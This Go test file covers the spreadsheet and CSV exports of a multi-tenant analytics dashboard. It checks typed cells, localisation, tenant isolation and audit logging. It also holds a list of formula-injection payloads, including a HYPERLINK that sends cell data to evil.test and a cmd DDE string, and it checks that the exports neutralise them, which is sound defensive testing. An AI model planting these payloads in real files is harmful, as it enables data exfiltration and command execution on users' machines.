package web

import (
	"context"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/geniai/analytics/internal/apperr"
	"github.com/geniai/analytics/internal/dashboard"
	"github.com/geniai/analytics/internal/dbsqlc"
	"github.com/geniai/analytics/internal/pg"
	"github.com/geniai/analytics/internal/sheet"
	"github.com/geniai/analytics/internal/sheet/sheettest"
)

// hostileTexts are contact names and labels a spreadsheet would run if they were not text.
var hostileTexts = []string{`=HYPERLINK("http://evil.test/?d="&A1,"Clique")`, "+1+cmd|' /C calc'!A0", "-2+3",
	"@SUM(1,2)", "  =1+1", "\uFF1DHYPERLINK(\"http://evil.test\")", "\uFF0B1", "\u00a0@x"}

// exportTenant is what the tests know of tenant A's data (the seeded fixture).
func exportTenant(t *testing.T) *dashboard.Tenant {
	sp, _ := time.LoadLocation("America/Sao_Paulo")
	return &dashboard.Tenant{Loc: sp, Inboxes: []dbsqlc.TenantInboxNamesRow{
		{InboxID: 2, InboxName: "Instagram", ChannelType: "Channel::Instagram"},
		{InboxID: 1, InboxName: "WhatsApp Recepção", ChannelType: "Channel::Whatsapp"}}} // by name, as stored
}

func conversationLabels(lang string) sheettest.Labels {
	names := map[string]string{"1": "WhatsApp Recepção", "2": "Instagram"}
	status := map[string]string{}
	for code, name := range dashboard.StatusNames {
		status[name] = translate(lang, statusKeys[code])
	}
	sla := map[string]string{}
	for code, name := range dashboard.SLANames {
		sla[name] = translate(lang, "sla."+code)
	}
	return sheettest.Labels{
		"caixa_id": func(c string) string { return names[c] },
		"canal":    dashboard.ChannelName,
		"situacao": func(c string) string { return status[c] },
		"sla":      func(c string) string { return sla[c] },
	}
}

var statusKeys = map[int16]string{0: "status.open", 1: "status.resolved", 2: "status.pending", 3: "status.snoozed"}

// The conversation list as .xlsx holds exactly the CSV's rows for the same filter, typed: ids,
// phones and texts as text, counts as numbers, durations as [h]:mm:ss, instants as dates in the
// tenant's timezone, flags as Sim/Não; inbox and channel names; the header block says tenant,
// period and filters; hostile texts stay text in both files.
func TestConversationExportXLSX(t *testing.T) {
	t.Parallel()
	h, a, _ := dashHarness(t)
	for i, s := range hostileTexts {
		h.exec(`UPDATE analytics.conversations SET contact_name = $1, labels = ARRAY[$1, 'lead'] WHERE tenant_id = $2 AND conversation_id = $3`,
			s, a, 600-i*3)
	}
	c := h.browser()
	c.mustLogin("cliente@a.test", pw, "/dashboard")
	q := period + "&inbox=1&inbox=2&label=lead"
	xl := c.get("/conversations/export.xlsx?" + q)
	expectStatus(t, xl, http.StatusOK, "")
	if ct := xl.Header.Get("Content-Type"); ct != sheet.XLSX.ContentType() {
		t.Fatalf("content type %q", ct)
	}
	if cd := xl.Header.Get("Content-Disposition"); cd != `attachment; filename="academia-a-conversas-20261001-20261129.xlsx"` {
		t.Errorf("disposition %q", cd)
	}
	csvRes := c.get("/conversations/export.csv?" + q)
	expectStatus(t, csvRes, http.StatusOK, "conversa_id")

	book := sheettest.Open(t, []byte(xl.body))
	if book.Sheet != "Conversas" || book.Title != "Conversas" || book.About["Cliente"] != "academia-a" ||
		book.About["Período"] != "01/10/2026 a 29/11/2026" || book.About["Filtros"] != "Caixas de entrada: WhatsApp Recepção, Instagram; Etiqueta: lead" {
		t.Errorf("header block: %q %q %v", book.Sheet, book.Title, book.About)
	}
	if len(book.Rows) < 300 {
		t.Fatalf("only %d rows", len(book.Rows))
	}
	cols := dashboard.NewConversationExport(exportTenant(t), func(k string) string { return translate(langPT, k) }).Columns
	sheettest.SameAsCSV(t, book, []byte(csvRes.body), cols, exportTenant(t).Loc, conversationLabels(langPT))

	// Spot checks a manager would make: the phone keeps its "+", a flag reads Sim or Não, the
	// channel is a name.
	phone, lead, channel, name := book.Column("Telefone"), book.Column("Lead"), book.Column("Canal"), book.Column("Contato")
	r := book.Rows[0]
	if !strings.HasPrefix(r[phone].Raw, "+5511") || r[phone].Kind != sheet.Text || r[channel].Raw != "WhatsApp" && r[channel].Raw != "Instagram" {
		t.Errorf("first row: phone %q, channel %q", r[phone].Raw, r[channel].Raw)
	}
	if r[lead].Raw != "0" && r[lead].Raw != "1" || r[lead].Kind != sheet.YesNo {
		t.Errorf("lead cell %+v", r[lead])
	}
	found := map[string]bool{}
	for _, row := range book.Rows {
		found[row[name].Raw] = true
		if row[name].Formula != "" {
			t.Errorf("contact %q is a formula", row[name].Raw)
		}
	}
	for _, s := range hostileTexts {
		if !found[s] {
			t.Errorf("hostile contact name %q is not in the .xlsx as it is", s)
		}
		if !strings.Contains(csvRes.body, "'"+strings.ReplaceAll(s, `"`, `""`)) {
			t.Errorf("hostile contact name %q is not neutralised in the CSV", s)
		}
	}
}

// The English .xlsx speaks English: headers, names, Yes/No and ISO dates.
func TestConversationExportEnglish(t *testing.T) {
	t.Parallel()
	h, _, _ := dashHarness(t)
	c := h.browser()
	c.mustLogin("cliente@a.test", pw, "/dashboard")
	xl := c.get("/conversations/export.xlsx?lang=en&" + period)
	expectStatus(t, xl, http.StatusOK, "")
	book := sheettest.Open(t, []byte(xl.body))
	if book.Sheet != "Conversations" || book.About["Period"] != "2026-10-01 to 2026-11-29" ||
		book.About["Filters"] != "None (every conversation of the period)" || book.Titles[0] != "Conversation ID" {
		t.Fatalf("English book: %q %v %q", book.Sheet, book.About, book.Titles)
	}
	cols := dashboard.NewConversationExport(exportTenant(t), func(k string) string { return translate(langEN, k) }).Columns
	sheettest.SameAsCSV(t, book, []byte(c.get("/conversations/export.csv?lang=en&"+period).body), cols, exportTenant(t).Loc, conversationLabels(langEN))
	created := book.Column("Created at")
	if shown := book.Rows[0][created].Shown; len(shown) != len("2026-11-29 12:00") || shown[4] != '-' {
		t.Errorf("English date %q", shown)
	}
}

// Every chart's .xlsx holds its CSV's values; the KPIs mix counts, rates and durations in one
// column, each cell typed as what it is.
func TestChartExportsXLSX(t *testing.T) {
	t.Parallel()
	h, a, _ := dashHarness(t)
	for _, who := range []struct{ email, base string }{
		{"cliente@a.test", ""},
		{"staff@geniai.test", "/admin/tenants/" + strconv.FormatInt(a, 10)}, // "ver como cliente"
	} {
		c := h.browser()
		c.mustLogin(who.email, pw, map[bool]string{true: "/admin", false: "/dashboard"}[who.base != ""])
		for _, chart := range dashboard.Charts {
			path := who.base + "/dashboard/export/" + chart
			xl, cs := c.get(path+".xlsx?stack=inbox&"+period), c.get(path+".csv?stack=inbox&"+period)
			expectStatus(t, xl, http.StatusOK, "")
			expectStatus(t, cs, http.StatusOK, "")
			book := sheettest.Open(t, []byte(xl.body))
			if book.About["Cliente"] != "academia-a" || book.About["Período"] != "01/10/2026 a 29/11/2026" {
				t.Errorf("%s: header block %v", path, book.About)
			}
			d := &dashboard.Dashboard{Filter: dashboard.Filter{Stacked: true}, Inboxes: exportTenant(t).Inboxes}
			cols, _, err := d.ChartTable(chart, func(k string) string { return translate(langPT, k) })
			if err != nil {
				t.Fatal(err)
			}
			var labels sheettest.Labels
			switch chart {
			case "kpis", "funnel":
				names := map[string]string{"conversas": "Conversas", "leads": "Leads", "visitas_agendadas": "Visitas agendadas", "matriculas": "Matrículas"}
				labels = sheettest.Labels{"indicador": func(c string) string {
					if n, ok := names[c]; ok {
						return n
					}
					return book.Rows[0][0].Raw // checked below by position
				}, "etapa": func(c string) string { return names[c] }}
			case "heatmap":
				days := map[string]string{}
				for i, d := range dashboard.Weekdays {
					days[d] = translate(langPT, "export.weekday."+strconv.Itoa(i))
				}
				labels = sheettest.Labels{"dia_da_semana": func(c string) string { return days[c] }}
			case "inboxes":
				labels = sheettest.Labels{"canal": dashboard.ChannelName}
			}
			if chart == "kpis" {
				labels = nil // names checked below; values through their kinds
				cols[0].Kind = sheet.Text
				checkKPIBook(t, book, cs.body)
				continue
			}
			sheettest.SameAsCSV(t, book, []byte(cs.body), cols, exportTenant(t).Loc, labels)
		}
	}
	if n := h.auditCount("tenant.view_as", 0); n < len(dashboard.Charts) {
		t.Errorf("staff exports audited %d times, want at least %d", n, len(dashboard.Charts))
	}
}

// checkKPIBook: every indicator's value and previous value are typed as what they measure, and
// equal the CSV's; the change is a percentage of the CSV's fraction.
func checkKPIBook(t *testing.T, book *sheettest.Book, csvBody string) {
	t.Helper()
	if book.Titles[0] != "Indicador" || book.Rows[0][0].Raw != "Conversas" || book.About["Comparado com"] != "02/08/2026 a 30/09/2026" {
		t.Fatalf("KPI book: %q, first %q, %v", book.Titles, book.Rows[0][0].Raw, book.About)
	}
	want := map[string]sheet.Kind{"Conversas": sheet.Count, "Lead → visita": sheet.Percent, "1ª resposta (mediana)": sheet.Duration,
		"Satisfação (CSAT 4–5)": sheet.Percent, "Respostas CSAT": sheet.Count}
	for _, r := range book.Rows {
		if k, ok := want[r[0].Raw]; ok && r[1].Kind != k {
			t.Errorf("KPI %q is shown as kind %d, want %d", r[0].Raw, r[1].Kind, k)
		}
		if r[3].Raw != "" && r[3].Kind != sheet.Percent {
			t.Errorf("KPI %q change is kind %d", r[0].Raw, r[3].Kind)
		}
	}
	codes := []string{}
	for _, line := range strings.Split(strings.TrimSpace(csvBody), "\n")[1:] {
		codes = append(codes, strings.SplitN(line, ",", 2)[0])
	}
	names := map[string]string{}
	for i, code := range codes {
		if i < len(book.Rows) {
			names[code] = book.Rows[i][0].Raw
		}
	}
	cols := []sheet.Column{{Key: "indicador", Title: "Indicador", Kind: sheet.Text}, {Key: "valor", Title: "Valor", Kind: sheet.Decimal},
		{Key: "periodo_anterior", Title: "Período anterior", Kind: sheet.Decimal}, {Key: "variacao", Title: "Variação", Kind: sheet.Percent}}
	sheettest.SameAsCSV(t, book, []byte(csvBody), cols, time.UTC,
		sheettest.Labels{"indicador": func(c string) string { return names[c] }}, "valor", "periodo_anterior")
	if names["taxa_lead_visita"] != "Lead → visita" || names["primeira_resposta_mediana_s"] != "1ª resposta (mediana)" {
		t.Errorf("KPI names %v", names)
	}
}

// Old "Excel (pt-BR)" links get the .xlsx; unknown formats are refused in Portuguese; another
// tenant's export is a 404 in either format; a staff export of a tenant is audited.
func TestExportFormats(t *testing.T) {
	t.Parallel()
	h, a, b := dashHarness(t)
	c := h.browser()
	c.mustLogin("cliente@a.test", pw, "/dashboard")
	expectRedirect(t, c.get("/conversations/export.csv?format=excel&period=30d"), "/conversations/export.xlsx?period=30d")
	expectRedirect(t, c.get("/dashboard/export/daily.csv?period=7d&format=excel"), "/dashboard/export/daily.xlsx?period=7d")
	expectStatus(t, c.get("/dashboard/export/daily.pdf"), http.StatusNotFound, "")
	expectStatus(t, c.get("/dashboard/export/daily.xlsx?format=csv"), http.StatusBadRequest, "Formato desconhecido")
	expectStatus(t, c.get("/conversations/export.csv?format=xml"), http.StatusBadRequest, "Formato desconhecido")
	expectStatus(t, c.get("/dashboard/export/nope.xlsx"), http.StatusNotFound, "")
	// A bad filter is an error page, not a download.
	res := c.get("/conversations/export.xlsx?from=2026-13-01")
	if res.StatusCode != http.StatusBadRequest || res.Header.Get("Content-Disposition") != "" {
		t.Errorf("bad filter: %d %q", res.StatusCode, res.Header.Get("Content-Disposition"))
	}
	expectStatus(t, c.get("/conversations/export.xlsx?inbox=3"), http.StatusBadRequest, "")
	for _, p := range []string{"/admin/tenants/" + strconv.FormatInt(b, 10) + "/conversations/export.xlsx", "/admin/tenants/" + strconv.FormatInt(b, 10) + "/dashboard/export/kpis.xlsx"} {
		expectStatus(t, c.get(p), http.StatusNotFound, "")
	}

	staff := h.browser()
	staff.mustLogin("suporte@geniai.test", pw, "/admin")
	before := h.auditCount("tenant.view_as", 0)
	xl := staff.get("/admin/tenants/" + strconv.FormatInt(a, 10) + "/conversations/export.xlsx?" + period)
	expectStatus(t, xl, http.StatusOK, "")
	if book := sheettest.Open(t, []byte(xl.body)); book.About["Cliente"] != "academia-a" || len(book.Rows) != 600 {
		t.Errorf("staff export: %v, %d rows", book.About, len(book.Rows))
	}
	if h.auditCount("tenant.view_as", 0) != before+1 {
		t.Error("the staff export was not audited")
	}
	// The audit log exports as .xlsx too.
	audit := staff.get("/admin/audit.xlsx")
	expectStatus(t, audit, http.StatusOK, "")
	if book := sheettest.Open(t, []byte(audit.body)); book.Titles[0] != "Quando" || len(book.Rows) == 0 {
		t.Errorf("audit export: %q, %d rows", book.Titles, len(book.Rows))
	}
}

// ConversationsXLSX (what a digest attaches) is the same file as the download, read as the
// subscriber: another tenant's id is not found.
func TestConversationsXLSXForDigest(t *testing.T) {
	t.Parallel()
	h, a, b := dashHarness(t)
	uid := h.user(a, "gerente@a.test", "client", pw)
	f, err := dashboard.Parse(url.Values{"from": {"2026-10-01"}, "to": {"2026-11-29"}}, time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), 30, []int32{1, 2})
	if err != nil {
		t.Fatal(err)
	}
	p := pg.User(a, uid, pg.AppClient, "127.0.0.1", "digest")
	name, data, err := h.srv.ConversationsXLSX(context.Background(), p, a, f, "en")
	if err != nil {
		t.Fatal(err)
	}
	if name != "academia-a-conversas-20261001-20261129.xlsx" {
		t.Errorf("name %q", name)
	}
	book := sheettest.Open(t, data)
	if len(book.Rows) != 600 || book.Titles[0] != "Conversation ID" || book.About["Client"] != "academia-a" {
		t.Errorf("digest .xlsx: %d rows, %q, %v", len(book.Rows), book.Titles[0], book.About)
	}
	if _, _, err := h.srv.ConversationsXLSX(context.Background(), p, b, f, "pt-BR"); !apperr.Is(err, apperr.NotFound) {
		t.Errorf("another tenant's conversations: %v", err)
	}
}
